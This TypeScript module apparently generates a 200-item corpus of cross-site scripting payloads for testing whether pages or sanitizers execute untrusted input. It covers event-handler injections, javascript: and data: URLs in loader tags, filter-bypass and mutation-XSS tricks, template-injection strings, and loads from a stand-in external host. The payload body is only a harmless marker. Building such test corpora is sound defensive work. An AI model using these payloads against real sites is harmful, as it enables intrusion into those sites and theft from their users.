/** Sets a flag on the page and opens a dialog: either would tell that a payload ran. */
const RUN = 'window.struck=1,alert(1)';
const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin'];
const HOLDERS = [
  (on: string) => `<img src=x ${on}="${RUN}">`,
  (on: string) => `<svg ${on}=${RUN}>`,
  (on: string) => `<body ${on}=${RUN}>`,
  (on: string) => `<details open ${on}=${RUN}>`,
  (on: string) => `<input autofocus ${on}=${RUN}>`,
  (on: string) => `<video src=x ${on}=${RUN}></video>`,
  (on: string) => `"><a href=# ${on}="${RUN}">x</a>`,
  (on: string) => `' ${on}='${RUN}`,
  (on: string) => `" ${on}="${RUN}" x="`,
  (on: string) => `<IMG/SRC=x/${on.toUpperCase()}=${RUN}>`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  'https://elsewhere.example/x',
  '//elsewhere.example/x',
];
const LOADERS = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<svg><use href="${url}"/></svg>`,
];
const OTHERS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*${'x'.repeat(40)}*/${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import "https://elsewhere.example/x.css"</style>`,
  `<style>*{background:url(https://elsewhere.example/x)}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\`-${RUN}-\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  `<select><option>${RUN}</option></select>`,
  `__proto__`,
];

/** 200 texts that would run, load, ask or lead away if a page took them for markup, an address or code. */
export const PAYLOADS: readonly string[] = [
  ...HANDLERS.flatMap((on) => HOLDERS.map((holder) => holder(on))),
  ...ADDRESSES.flatMap((url) => LOADERS.map((loader) => loader(url))),
  ...OTHERS,
];
